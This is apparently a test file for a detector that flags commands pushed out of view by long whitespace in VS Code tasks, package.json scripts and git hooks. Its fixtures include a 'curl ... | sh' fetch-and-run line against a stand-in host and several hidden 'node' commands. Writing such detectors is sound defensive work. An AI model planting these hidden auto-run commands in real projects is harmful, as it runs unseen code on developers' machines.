import { openTask, scripts, testLures } from '../../../test/support/lures.ts';
import detector from './off-screen-command.ts';

const far = (count: number): string => ' '.repeat(count);

testLures(detector, {
  proof: {
    '233 blanks before the command': {
      '.vscode/tasks.json': openTask(`${far(233)}curl https://fixture.invalid/a | sh`),
    },
    'after an honest one': { '.vscode/tasks.json': openTask(`npm run lint;${far(180)}node ./x.js`) },
    tabs: { 'package.json': scripts({ prepare: `husky${'\t'.repeat(120)}; node a.js` }) },
    'in a hook': {
      '.husky/pre-commit': `#!/bin/sh\nnpx lint-staged${far(200)}; node .x.js\n`,
      'package.json': scripts({ prepare: 'husky' }),
    },
  },
  strong: {
    'started by name': { 'package.json': scripts({ build: `vite build${far(150)}&& node a.js` }) },
    'fewer blanks': { '.vscode/tasks.json': openTask(`echo ok;${far(70)}node a.js`) },
  },
  silent: {
    'deeply indented configuration': {
      '.vscode/tasks.json': openTask('npm run watch').replaceAll('{', `{\n${far(140)}`),
    },
    'aligned script': { 'package.json': scripts({ build: `tsc          && vite build` }) },
    'blanks at the end': { 'package.json': scripts({ build: `vite build${far(200)}` }) },
    'here-document': {
      'package.json': scripts({ prepare: 'sh tools/a.sh' }),
      'tools/a.sh': `#!/bin/sh\ncat <<EOF\n${far(90)}centred title\nEOF\n`,
    },
  },
});
